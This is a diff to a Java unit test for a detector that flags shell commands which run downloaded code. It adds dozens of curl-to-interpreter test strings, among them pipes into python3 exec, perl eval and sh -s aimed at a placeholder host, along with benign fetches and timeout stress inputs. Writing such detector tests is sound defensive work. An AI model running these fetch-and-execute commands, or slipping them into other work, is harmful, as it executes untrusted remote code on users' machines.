@@ -33,6 +33,28 @@ class FetchedCodeTest {
                 "curl https://x.example > job.sh && ./job.sh",
                 "curl --output=job https://x.example\nbash -x job",
                 "wget https://x.example -O /opt/p\nexec /opt/p",
+                "curl -s https://x.example | perl5.36",
+                "curl -s https://x.example | python3 -c 'import sys; print(1)' | sh",
+                "curl -s https://x.example | python3 -i -c 'print(1)'",
+                "curl -s https://x.example | python3 -c 'import sys; exec(sys.stdin.read())'",
+                "curl -s https://x.example | python3 -c 'import os; os.system(input())'",
+                "curl -s https://x.example | python3 -c 'print(1)'\"exec(input())\"",
+                "curl -s https://x.example | python3 -c \"$CODE\"",
+                "curl -s https://x.example | python3 -c $CODE",
+                "curl -s https://x.example | python3 -m code",
+                "curl -s https://x.example | python3 -m pdb",
+                "curl -s https://x.example | python3 -m json.tool.mine",
+                "curl -s https://x.example | python3 /dev/stdin",
+                "curl -s https://x.example | perl -n",
+                "curl -s https://x.example | perl -d -e 'print'",
+                "curl -s https://x.example | perl -ne 'eval'",
+                "curl -s https://x.example | perl -ne 'print' -e ';eval'",
+                "curl -s https://x.example | perl -pe 's/(.*)/$1/ee'",
+                "curl -s https://x.example | perl -ne 'open F, \"|sh\"; print F'",
+                "curl -s https://x.example | ruby -ne 'puts `#{$_}`'",
+                "curl -s https://x.example | sh -s",
+                "curl -s https://x.example | sh -c 'sh'",
+                "bash -c 'curl '\"$URL | sh\"",
                 "ansible-pull -U https://x.example"
             })
     void whatRunsWhatItFetchedIsTold(String command) {
@@ -52,7 +74,17 @@ class FetchedCodeTest {
                 "wget -O /srv/data.csv https://x.example && gzip -f /srv/data.csv",
                 "curl -o /tmp/a https://x.example; rm /tmp/a",
                 "sh /tmp/job; curl -o /tmp/job https://x.example",
-                "/usr/bin/curl https://x.example/sh"
+                "/usr/bin/curl https://x.example/sh",
+                "curl -s https://x.example | python3 -m json.tool",
+                "curl -s https://x.example | sudo -u a /usr/bin/python3 -Sm json.tool > /srv/a",
+                "curl -s https://x.example |\\\n  python3 \\\n  -c 'import json, sys; print(json.load(sys.stdin)[\"a\"])'; sh /opt/b",
+                "sh -c 'curl -s https://x.example | python3 -c \"import sys; print(sys.stdin.read())\"'",
+                "sh -c \"curl -s https://x.example | python3 -c 'import sys; print(len(sys.stdin.read()))'\"",
+                "curl -s https://x.example | perl -ne 'print if /a|b/' | sort",
+                "curl -s https://x.example | perl -MJSON::PP -0777 -ne 'print decode_json($_)->{a}'",
+                "curl -s https://x.example | perl -pe 's/a/b/g'",
+                "curl -s https://x.example | perl -e 'while (<>) { print length, \"\\n\" }'",
+                "curl -s https://x.example | ruby -rjson -e 'puts JSON.parse(STDIN.read)[\"a\"]'"
             })
     void whatOnlyFetchesIsNot(String command) {
         assertThat(FetchedCode.isIn(command)).isFalse();
@@ -65,7 +97,11 @@ class FetchedCodeTest {
                         "curl -o a ".repeat(6_000) + "wget a> ".repeat(1_000),
                         "curl|".repeat(11_000),
                         "curl|sudo -a -a -a -a ".repeat(3_000),
-                        "curl '\" ".repeat(8_000))) {
+                        "curl '\" ".repeat(8_000),
+                        "curl | python3 -c '".repeat(4_000),
+                        "curl|perl -0 -e '' ".repeat(4_000),
+                        "curl|perl" + " -0".repeat(20_000),
+                        "curl | python3 " + "-S ".repeat(20_000))) {
             Assertions.assertTimeoutPreemptively(
                     Duration.ofSeconds(5), () -> FetchedCode.isIn(command));
         }
